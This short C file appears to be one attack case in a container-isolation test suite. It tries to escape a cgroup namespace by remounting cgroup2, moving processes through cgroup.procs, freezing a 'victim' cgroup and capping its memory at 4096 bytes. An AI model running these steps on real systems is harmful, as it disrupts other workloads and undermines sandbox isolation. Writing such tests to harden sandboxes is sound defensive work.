/* Mounts the cgroup file system anew, to see all of it (cgroup_namespaces(7)). */
#include "common/attack.h"

static void attempt(void) {
    const char *place = mounted("cgroup2", NULL);
    char path[128];
    static const char *files[] = {"inn/victim/guest/cgroup.procs", "cgroup.procs", "../cgroup.procs"};
    if (place) {
        show_below(place, 2);
        for (unsigned i = 0; i < 3; i++) {
            snprintf(path, sizeof path, "%s/%s", place, files[i]);
            put(path, "0");
        }
        snprintf(path, sizeof path, "%s/inn/victim/cgroup.freeze", place);
        put(path, "1");
        snprintf(path, sizeof path, "%s/inn/victim/memory.max", place);
        put(path, "4096");
    }
    TRY(mount("cgroup2", "/sys/fs/cgroup", "cgroup2", MS_REMOUNT, ""));
    TRY(mount("cgroup2", place ? place : "/sys/fs/cgroup", "cgroup2", MS_REMOUNT, "favordynmods"));
}
